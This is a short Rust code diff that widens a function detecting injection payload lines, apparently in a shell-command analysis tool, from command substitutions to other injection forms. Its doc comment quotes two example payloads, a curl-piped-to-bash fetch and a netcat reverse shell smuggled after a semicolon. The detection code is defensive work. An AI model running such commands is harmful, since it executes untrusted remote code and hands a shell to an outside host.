@@ -603,15 +603,15 @@ impl UnitReader<'_> {
         });
     }
 
-    /// Whether the command stands on a line that is one command substitution: an injection
-    /// payload (`$(curl x | bash)`), shown, not run.
+    /// Whether the command stands on a line written as an injection payload (`$(curl x |
+    /// bash)`, `;nc -e /bin/sh x 4444`), shown, not run.
     fn on_payload_line(&self, node: Node<'_>) -> bool {
         let start = node.start_byte();
         let line_start = self.code[..start].rfind('\n').map_or(0, |i| i + 1);
         let line_end = self.code[start..]
             .find('\n')
             .map_or(self.code.len(), |i| start + i);
-        quoted::is_substitution_payload(&self.code[line_start..line_end])
+        quoted::is_injection_payload(&self.code[line_start..line_end])
     }
 
     /// Whether a comment on the command's line, or the comment lines right above it,
